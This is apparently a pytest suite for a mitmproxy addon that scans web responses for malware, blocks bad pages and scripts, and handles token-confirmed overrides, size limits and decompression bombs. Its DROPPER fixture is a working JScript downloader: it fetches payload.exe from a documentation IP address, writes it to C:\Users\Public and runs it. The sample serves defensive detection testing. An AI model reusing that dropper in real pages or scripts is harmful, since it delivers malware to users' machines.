"""The addon's hooks, driven with mitmproxy's taddons/tflow, over the real engine in a real pool.

What these check is the hook logic: what is scanned, what is skipped and counted, what is
replaced and how. The end-to-end path through a real mitmdump is in tests/integration.
"""

from __future__ import annotations

import asyncio
import gzip
import random
from collections.abc import Callable
from pathlib import Path
from typing import cast
from urllib.parse import urlencode

import brotli
import pytest
from mitmproxy import exceptions, http
from mitmproxy.test import taddons, tflow, tutils

from malwaresnipper.addon.gateway import HEADER, Gateway
from malwaresnipper.engine.config import EngineConfig
from malwaresnipper.server.scanner import ScanPool
from helpers.addons import done, request, response, responseheaders, running, through

DROPPER = b"""<html><head><title>Invoice</title></head><body><script>
var sh = new ActiveXObject("WScript.Shell");
var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://198.51.100.7/payload.exe", false); x.send();
var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(x.responseBody);
s.SaveToFile("C:\\\\Users\\\\Public\\\\update.exe", 2); sh.Run("C:\\\\Users\\\\Public\\\\update.exe");
</script></body></html>"""
DROPPER_JS = DROPPER.split(b"<script>")[1].split(b"</script>")[0]
BENIGN = b"<!DOCTYPE html><html><head><title>Recipes</title></head><body><p>Bake for 40 minutes.</p></body></html>"

#: The default engine, ML layer included: what a user runs.
ENGINE_CONFIG = EngineConfig()


class SharedPool(ScanPool):
    """One pool for the whole module: the services' stop() must not close it."""

    async def close(self) -> None:  # noqa: D102
        pass


@pytest.fixture(scope="module")
def shared_pool():
    pool = SharedPool(ENGINE_CONFIG, workers=1, timeout_s=20.0)
    pool.start()
    yield pool
    loop = asyncio.new_event_loop()
    loop.run_until_complete(ScanPool.close(pool))
    loop.close()


@pytest.fixture
async def gateway(tmp_path: Path, shared_pool):
    """A started gateway (no network servers) and its taddons context; configure() before use."""
    gw = Gateway(pool=shared_pool)
    with taddons.context(gw) as tctx:
        tctx.configure(gw, malwaresnipper_data_dir=str(tmp_path / "data"), malwaresnipper_services=False)
        await running(gw)
        assert gw.lifecycle.service is not None
        yield gw, tctx
        await done(gw)


def make_flow(url_host: str = "site.example", path: str = "/", *, headers: dict | None = None,
              method: str = "GET", content: bytes = b"") -> http.HTTPFlow:
    req = tutils.treq(host=url_host, port=443, scheme=b"https", path=path.encode(), method=method.encode(),
                      headers=http.Headers(**{k.replace("-", "_"): v for k, v in (headers or {}).items()}),
                      content=content)
    return tflow.tflow(req=req)


async def test_monitor_mode_never_touches_the_response_and_records_the_verdict(gateway):
    gw, tctx = gateway
    flow = await through(gw, make_flow(path="/invoice"), DROPPER, {"content-type": "text/html"})
    assert flow.response.content == DROPPER and HEADER not in flow.response.headers
    await asyncio.wait_for(asyncio.gather(*gw.lifecycle.tasks), 30)
    items, total = await _history(gw)
    assert total == 1 and items[0]["threat_level"] == "MALICIOUS" and items[0]["blocked"] is False


async def test_block_mode_replaces_a_malicious_page_and_passes_a_benign_one(gateway):
    gw, tctx = gateway
    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=15_000)
    ok = await through(gw, make_flow(path="/recipes"), BENIGN, {"content-type": "text/html; charset=utf-8"})
    assert ok.response.content == BENIGN and ok.response.headers[HEADER].startswith("BENIGN")
    bad = await through(gw, make_flow(path="/invoice"), DROPPER, {"content-type": "text/html"})
    page = bad.response.get_text()
    assert bad.response.status_code == 403 and "MalwareSnipper blocked this page" in page
    assert "https://site.example/invoice" in page and "<script" not in page.lower()
    assert "script-src" not in bad.response.headers["content-security-policy"]
    assert gw.lifecycle.counters["blocked_page"] == 1


async def test_block_mode_replaces_a_malicious_script_with_an_inert_one(gateway):
    gw, tctx = gateway
    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=15_000)
    page = make_flow(path="/app")
    await through(gw, page, b'<html><script src="/dl.js"></script></html>', {"content-type": "text/html"})
    script = make_flow(path="/dl.js", headers={"referer": "https://site.example/app", "sec-fetch-dest": "script"})
    # served with a lying content type: sniffed as JS by Sec-Fetch-Dest
    await through(gw, script, DROPPER_JS, {"content-type": "text/plain"})
    body = script.response.get_text()
    assert body.startswith("/* MalwareSnipper blocked this script") and "console.warn(" in body
    assert "ActiveXObject" not in body
    await asyncio.sleep(0.2)
    items, _ = await _history(gw)
    script_scan = next(i for i in items if i["url"].endswith("/dl.js"))
    assert script_scan["blocked"] is True


async def test_compressed_bodies_are_decoded_before_scanning(gateway):
    gw, tctx = gateway
    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=15_000)
    for encoding, data in (("gzip", gzip.compress(DROPPER)), ("br", brotli.compress(DROPPER))):
        flow = await through(gw, make_flow(path=f"/{encoding}"), data,
                             {"content-type": "text/html", "content-encoding": encoding})
        assert flow.response.status_code == 403, encoding


async def test_skipped_responses_stream_untouched_and_are_counted(gateway):
    gw, tctx = gateway
    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_max_body_bytes=10_000)
    big = make_flow(path="/big.html")
    await request(gw, big)
    big.response = http.Response.make(200, b"", {"content-type": "text/html"})
    big.response.headers["content-length"] = "50000"
    responseheaders(gw, big)
    assert big.response.stream  # streams: too large to hold (tapped, so it is scanned after it passed)
    assert _stream(big)(b"<html>chunk") == b"<html>chunk", "the body goes on unchanged"
    assert big.response.headers[HEADER] == "unscanned; reason=too_large"
    img = make_flow(path="/a.png")
    await request(gw, img)
    img.response = http.Response.make(200, b"\x89PNG", {"content-type": "image/png"})
    responseheaders(gw, img)
    assert img.response.stream is True
    assert gw.lifecycle.counters["unscanned_too_large"] == 1 and gw.lifecycle.counters["unscanned_not_html_js"] == 1


async def test_a_small_compressed_body_that_inflates_past_the_cap_is_scanned_in_full(gateway):
    """5 KB of gzip inflating to 6 MB of comment with the payload at the end: it used to pass
    unscanned and unrecorded (BodyTooLarge); now it is decoded as a stream, the comment set aside."""
    gw, tctx = gateway
    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=15_000)
    padded = DROPPER.replace(b"<body>", b"<body><!--" + b"x" * 6_000_000 + b"-->")
    bomb = await through(gw, make_flow(path="/padded"), gzip.compress(padded),
                         {"content-type": "text/html", "content-encoding": "gzip"})
    assert bomb.response.status_code == 403 and "MalwareSnipper blocked this page" in bomb.response.get_text()
    spaces = await through(gw, make_flow(path="/spaces"), gzip.compress(b"<html>" + b" " * 6_000_000 + b"<p>hi"),
                           {"content-type": "text/html", "content-encoding": "gzip"})
    assert spaces.response.status_code == 200 and spaces.response.headers[HEADER].startswith("BENIGN")
    assert gw.lifecycle.counters["unscanned_too_large"] == 0
    items, _ = await _history(gw)
    padded_scan = next(i for i in items if i["url"].endswith("/padded"))
    assert padded_scan["threat_level"] == "MALICIOUS" and padded_scan["blocked"] is True


async def test_a_page_too_large_to_hold_is_scanned_after_it_streamed_and_recorded(gateway):
    gw, tctx = gateway
    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_max_body_bytes=10_000,
                   malwaresnipper_budget_ms=15_000)
    body = DROPPER.replace(b"<body>", b"<body>" + b"<p>filler text</p>" * 5_000)
    flow = make_flow(path="/huge.html")
    await request(gw, flow)
    flow.response = http.Response.make(200, b"", {"content-type": "text/html"})
    flow.response.headers["content-length"] = str(len(body))
    responseheaders(gw, flow)
    sent = b"".join(_stream(flow)(body[i : i + 4096]) for i in range(0, len(body), 4096))
    sent += _stream(flow)(b"")
    assert sent == body, "streamed through unchanged"
    await response(gw, flow)
    await asyncio.wait_for(asyncio.gather(*gw.lifecycle.tasks), 60)
    items, _ = await _history(gw)
    scan = next(i for i in items if i["url"].endswith("/huge.html"))
    # the middle was not seen: incomplete, so not BENIGN; the dropper at the end is found anyway
    assert scan["threat_level"] == "MALICIOUS" and scan["blocked"] is False


async def test_fail_closed_refuses_a_page_too_large_to_hold(gateway):
    gw, tctx = gateway
    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_max_body_bytes=10_000,
                   malwaresnipper_fail_closed=True)
    flow = make_flow(path="/huge2.html")
    await request(gw, flow)
    flow.response = http.Response.make(200, b"", {"content-type": "text/html"})
    flow.response.headers["content-length"] = "50000"
    responseheaders(gw, flow)
    assert flow.response.status_code == 403
    sent = _stream(flow)(b"<script>evil()</script>" * 100) + _stream(flow)(b"")
    assert b"evil()" not in sent and b"MalwareSnipper blocked this page" in sent
    assert int(flow.response.headers["content-length"]) == len(sent)
    await response(gw, flow)
    await asyncio.wait_for(asyncio.gather(*gw.lifecycle.tasks), 30)
    items, _ = await _history(gw)
    record = next(i for i in items if i["url"].endswith("/huge2.html"))
    assert record["status"] == "unscanned" and record["threat_level"] == "UNKNOWN"


async def test_a_quarantined_site_is_refused_in_block_mode_and_recorded(gateway):
    gw, tctx = gateway
    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=15_000)
    gw.lifecycle.service._note_timeout("site.example")
    gw.lifecycle.service._note_timeout("site.example")
    page = await through(gw, make_flow(path="/next"), BENIGN, {"content-type": "text/html"})
    assert page.response.status_code == 403 and "Not scanned" in page.response.get_text()
    script = await through(gw, make_flow(path="/x.js", headers={"sec-fetch-dest": "script"}), b"var a=1;",
                           {"content-type": "application/javascript"})
    assert script.response.get_text().startswith("/* MalwareSnipper blocked this script")
    await asyncio.wait_for(asyncio.gather(*gw.lifecycle.tasks), 30)
    items, _ = await _history(gw)
    record = next(i for i in items if i["url"].endswith("/next"))
    assert record["status"] == "unscanned" and record["threat_level"] == "UNKNOWN"
    other = await through(gw, make_flow(url_host="fine.example", path="/p"), BENIGN, {"content-type": "text/html"})
    assert other.response.status_code == 200


async def test_own_traffic_and_allowlisted_sites_are_never_scanned(gateway):
    gw, tctx = gateway
    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=15_000)
    own = make_flow(url_host="127.0.0.1")
    own.request.port = gw.options.effective.settings.server.api_port
    await through(gw, own, DROPPER, {"content-type": "text/html"})
    assert own.response.content == DROPPER and own.response.stream is True
    await gw.lifecycle.service.add_list_entry("allow", "trusted.example", "domain")
    allowed = await through(gw, make_flow(url_host="www.trusted.example"), DROPPER, {"content-type": "text/html"})
    assert allowed.response.content == DROPPER
    assert gw.lifecycle.counters["unscanned_own_traffic"] == 1 and gw.lifecycle.counters["unscanned_allowlisted"] == 1
    _, total = await _history(gw)
    assert total == 0


async def test_blocklisted_url_is_answered_at_request_time(gateway):
    gw, tctx = gateway
    tctx.configure(gw, malwaresnipper_mode="block")
    await gw.lifecycle.service.add_list_entry("block", "known-bad.example", "domain")
    flow = make_flow(url_host="cdn.known-bad.example", path="/x")
    await request(gw, flow)
    assert flow.response is not None and flow.response.status_code == 403
    assert "blocklist" in flow.response.get_text()


CONTROL = "malwaresnipper.invalid"
FORM = {"content-type": "application/x-www-form-urlencoded"}


def confirm_url(page: str, action: str) -> str:
    import html
    import re

    return html.unescape(re.search(rf'href="http://{CONTROL}(/confirm\?[^"]*action={action})"', page).group(1))


async def confirm_page(gw: Gateway, block_page: str, action: str) -> tuple[str, str]:
    """GET the gateway's confirmation page linked from a block page: (block id, token)."""
    get = make_flow(CONTROL, confirm_url(block_page, action))
    await request(gw, get)
    assert get.response.status_code == 200, get.response.get_text()
    text = get.response.get_text()
    return (text.split('name="block" value="')[1].split('"')[0], text.split('name="token" value="')[1].split('"')[0])


def post_confirm(block: str, action: str, token: str, origin: str | None = f"http://{CONTROL}") -> http.HTTPFlow:
    headers = dict(FORM, **({"origin": origin} if origin else {}))
    return make_flow(CONTROL, "/confirm", method="POST", headers=headers,
                     content=urlencode({"block": block, "action": action, "token": token}).encode())


async def test_proceed_once_and_always_allow(gateway):
    gw, tctx = gateway
    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=15_000)
    blocked = await through(gw, make_flow(path="/invoice"), DROPPER, {"content-type": "text/html"})
    page = blocked.response.get_text()
    assert 'name="token"' not in page and "<details>" in page  # the block page holds no secret
    block, token = await confirm_page(gw, page, "proceed")

    # a GET never redeems (it only shows the page again); a forged token, and the right token
    # sent from another origin, are refused
    get = make_flow(CONTROL, f"/confirm?block={block}&action=proceed&token={token}", method="GET")
    await request(gw, get)
    assert get.response.status_code == 200 and "Location" not in get.response.headers
    for flow in (post_confirm(block, "proceed", "forged"),
                 post_confirm(block, "proceed", token, origin="https://site.example")):
        await request(gw, flow)
        assert flow.response.status_code == 403
    still = await through(gw, make_flow(path="/invoice"), DROPPER, {"content-type": "text/html"})
    assert still.response.status_code == 403
    block, token = await confirm_page(gw, page, "proceed")  # the refused attempts spent it
    proceed = post_confirm(block, "proceed", token)
    await request(gw, proceed)
    assert proceed.response.status_code == 303
    assert proceed.response.headers["location"] == "https://site.example/invoice"
    once = await through(gw, make_flow(path="/invoice"), DROPPER, {"content-type": "text/html"})
    assert once.response.content == DROPPER  # let through exactly once...
    again = await through(gw, make_flow(path="/invoice"), DROPPER, {"content-type": "text/html"})
    assert again.response.status_code == 403  # ...then blocked again
    replay = post_confirm(block, "proceed", token)  # the same token cannot be replayed
    await request(gw, replay)
    assert replay.response.status_code == 403

    block2, token2 = await confirm_page(gw, again.response.get_text(), "allow")
    wrong_action = post_confirm(block2, "proceed", token2)  # a token confirms one action only
    await request(gw, wrong_action)
    assert wrong_action.response.status_code == 403
    block2, token2 = await confirm_page(gw, again.response.get_text(), "allow")
    allow = post_confirm(block2, "allow", token2)
    await request(gw, allow)
    assert allow.response.status_code == 303
    assert [i["entry"] for i in gw.lifecycle.service.list_items("allow")] == ["site.example"]
    for _ in range(2):
        later = await through(gw, make_flow(path="/invoice"), DROPPER, {"content-type": "text/html"})
        assert later.response.content == DROPPER


async def test_a_script_fetching_a_blocked_page_gets_no_way_past_it(gateway):
    """A page's own script can fetch() one of its site's blocked pages: that copy carries no
    links (a fetch is no navigation), and the user's own blocklist never offers "always allow"."""
    gw, tctx = gateway
    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=15_000)
    fetched = await through(gw, make_flow(path="/invoice?fetch", headers={"sec-fetch-mode": "cors",
                                                                           "sec-fetch-dest": "empty"}),
                            DROPPER, {"content-type": "text/html"})
    assert fetched.response.status_code == 403 and CONTROL not in fetched.response.get_text()
    framed = await through(gw, make_flow(path="/invoice?frame", headers={"sec-fetch-mode": "navigate",
                                                                          "sec-fetch-dest": "iframe"}),
                           DROPPER, {"content-type": "text/html"})
    assert CONTROL not in framed.response.get_text()
    navigated = await through(gw, make_flow(path="/invoice?nav", headers={"sec-fetch-mode": "navigate",
                                                                           "sec-fetch-dest": "document"}),
                              DROPPER, {"content-type": "text/html"})
    assert "action=proceed" in navigated.response.get_text()
    await gw.lifecycle.service.add_list_entry("block", "listed.example", "domain")
    try:
        listed = make_flow("listed.example", "/")
        await request(gw, listed)
        text = listed.response.get_text()
        assert listed.response.status_code == 403 and "action=proceed" in text and "action=allow" not in text
        block = text.split("block=")[1].split("&")[0]
        ask = make_flow(CONTROL, f"/confirm?block={block}&action=allow")
        await request(gw, ask)
        assert ask.response.status_code == 403 and "blocklist" in ask.response.get_text()
    finally:
        await gw.lifecycle.service.remove_list_entry("block", "listed.example")


async def test_timeout_fails_open_or_closed(gateway):
    gw, tctx = gateway
    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=1)
    flow = await through(gw, make_flow(path="/slow-1"), DROPPER + b"<!-- 1 -->", {"content-type": "text/html"})
    assert flow.response.content.startswith(DROPPER[:20]) and flow.response.headers[HEADER] == "unscanned; reason=timeout"
    tctx.configure(gw, malwaresnipper_fail_closed=True)
    closed = await through(gw, make_flow(path="/slow-2"), BENIGN + b"<!-- 2 -->", {"content-type": "text/html"})
    assert closed.response.status_code == 403 and "did not finish" in closed.response.get_text()
    assert gw.lifecycle.counters["fail_open"] == 1 and gw.lifecycle.counters["fail_closed"] == 1


def test_bad_options_are_refused_with_a_clear_error(tmp_path, shared_pool):
    gw = Gateway(pool=shared_pool)
    with taddons.context(gw) as tctx:
        with pytest.raises(exceptions.OptionsError, match="no such file"):
            tctx.configure(gw, malwaresnipper_config=str(tmp_path / "missing.toml"))
        with pytest.raises(exceptions.OptionsError, match="budget_ms must be >= 1"):
            tctx.configure(gw, malwaresnipper_budget_ms=0)
        with pytest.raises(exceptions.OptionsError):
            tctx.configure(gw, malwaresnipper_mode="panic")
        bad = tmp_path / "bad.toml"
        bad.write_text("[proxy]\nmode = 'block'\nbudget = 3\n")
        with pytest.raises(exceptions.OptionsError, match="unknown key 'proxy.budget'"):
            tctx.configure(gw, malwaresnipper_config=str(bad))
        good = tmp_path / "good.toml"
        good.write_text("[proxy]\nmode = 'block'\nblock_budget_ms = 250\n")
        tctx.configure(gw, malwaresnipper_config=str(good))
        assert gw.options.effective.mode == "block" and gw.options.effective.budget_s == 0.25
        tctx.configure(gw, malwaresnipper_budget_ms=400)  # a changed option beats the file
        assert gw.options.effective.budget_s == 0.4


def _stream(flow: http.HTTPFlow) -> Callable[[bytes], bytes]:
    """The response's stream function (mitmproxy types ``stream`` as a bool or a callable)."""
    assert flow.response is not None and callable(flow.response.stream)
    return cast(Callable[[bytes], bytes], flow.response.stream)


async def _history(gw: Gateway) -> tuple[list[dict], int]:
    from malwaresnipper.server.service import ScanService
    from malwaresnipper.server.store import ScanFilter

    service = gw.lifecycle.service
    assert isinstance(service, ScanService)
    await service.bus.flush()
    return await service.store.list_scans(ScanFilter(), 50, 0)


@pytest.mark.parametrize("pass_unscanned", [False, True])
async def test_a_taken_api_port_stops_the_gateway_with_the_reason_unless_told_to_pass_unscanned(
        tmp_path, shared_pool, caplog, pass_unscanned):
    import logging
    import socket

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        gw = Gateway(pool=shared_pool)
        with taddons.context(gw) as tctx, caplog.at_level(logging.WARNING, "malwaresnipper.gateway"):
            tctx.configure(gw, malwaresnipper_data_dir=str(tmp_path / "data"), malwaresnipper_services=True,
                           malwaresnipper_api_port=port, malwaresnipper_events_port=0,
                           malwaresnipper_mode="block", malwaresnipper_pass_unscanned=pass_unscanned)
            await running(gw)
            try:
                assert gw.lifecycle.service is None and not gw.lifecycle.start_pending
                assert f"127.0.0.1:{port}" in gw.lifecycle.start_error and "--api-port" in gw.lifecycle.start_error
                [record] = [r for r in caplog.records if "NOT running" in r.getMessage()]
                # mitmdump and `malwaresnipper run` stop on an error logged while starting
                assert record.levelno == (logging.WARNING if pass_unscanned else logging.ERROR)
                assert gw.lifecycle.start_error in record.getMessage()
                # block mode without a scanner: fail open says so on the response ...
                flow = await through(gw, make_flow(path="/invoice"), DROPPER, {"content-type": "text/html"})
                assert flow.response.status_code == 200
                assert flow.response.headers[HEADER] == "unscanned; reason=no_service"
                # ... fail closed blocks
                tctx.configure(gw, malwaresnipper_fail_closed=True)
                flow = await through(gw, make_flow(path="/invoice2"), BENIGN, {"content-type": "text/html"})
                assert flow.response.status_code == 403 and b"scan service is not running" in flow.response.content
            finally:
                await done(gw)


async def test_a_script_destination_scans_whatever_type_the_script_claims(gateway):
    gw, tctx = gateway
    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=15_000)
    # to a <script src> as JSON: Chromium runs it, so it is scanned as a script
    script = await through(gw, make_flow(path="/data", headers={"sec-fetch-dest": "script"}), DROPPER_JS,
                           {"content-type": "application/json"})
    assert script.response.get_text().startswith("/* MalwareSnipper blocked this script")
    # fetch() of the same JSON is data, not run: passed (and today's rule for JSON is kept)
    data = await through(gw, make_flow(path="/data", headers={"sec-fetch-dest": "empty"}), DROPPER_JS,
                         {"content-type": "application/json"})
    assert data.response.content == DROPPER_JS and data.response.headers["vary"] == "Sec-Fetch-Dest"
    # an <img> never runs it: streamed untouched, and the cache may not replay it elsewhere
    img = make_flow(path="/data", headers={"sec-fetch-dest": "image"})
    await request(gw, img)
    img.response = http.Response.make(200, DROPPER_JS, {"content-type": "application/json", "vary": "Accept"})
    responseheaders(gw, img)
    assert img.response.stream is True and img.response.headers["vary"] == "Accept, Sec-Fetch-Dest"
    assert gw.lifecycle.counters["unscanned_not_rendered"] == 1


async def test_unscanned_passes_in_block_mode_are_recorded(gateway):
    gw, tctx = gateway
    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=15_000,
                   malwaresnipper_max_body_bytes=100_000)
    bomb = await through(gw, make_flow(path="/bomb"), gzip.compress(b"<html>" + b" " * 5_000_000),
                         {"content-type": "text/html", "content-encoding": "gzip"})
    corrupt = await through(gw, make_flow(path="/corrupt"), b"this is not gzip",
                            {"content-type": "text/html", "content-encoding": "gzip"})
    png = await through(gw, make_flow(path="/a.png"), b"\x89PNG....", {"content-type": "image/png"})
    assert bomb.response.status_code == corrupt.response.status_code == png.response.status_code == 200
    await asyncio.wait_for(asyncio.gather(*gw.lifecycle.tasks), 30)
    items, total = await _history(gw)
    by_url = {i["url"]: i for i in items}
    assert total == 2, items  # the image is not an unscanned pass: the browser does not render it
    corrupt_item = by_url["https://site.example/corrupt"]
    assert corrupt_item["threat_level"] == "UNKNOWN" and corrupt_item["status"] == "unscanned", corrupt_item
    assert gw.lifecycle.service.metrics.unscanned["decode_error"] == 1 and gw.lifecycle.counters["unscanned_decode_error"] == 1
    # the bomb is no unscanned pass any more: it is decoded as a stream, its whitespace set aside
    # (addon/bigbody.py), and scanned whole
    bomb_item = by_url["https://site.example/bomb"]
    assert bomb_item["status"] == "complete", bomb_item
    assert gw.lifecycle.service.metrics.unscanned["too_large"] == 0


async def test_a_corrupt_tail_does_not_hide_the_head(gateway):
    gw, tctx = gateway
    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=15_000)
    body = gzip.compress(DROPPER + random.Random(7).randbytes(20_000).hex().encode())
    flow = await through(gw, make_flow(path="/cut"), body[: len(body) // 2] + b"\0garbage" * 50,
                         {"content-type": "text/html", "content-encoding": "gzip"})
    assert flow.response.status_code == 403
    assert gw.lifecycle.counters["decoded_partly"] == 1
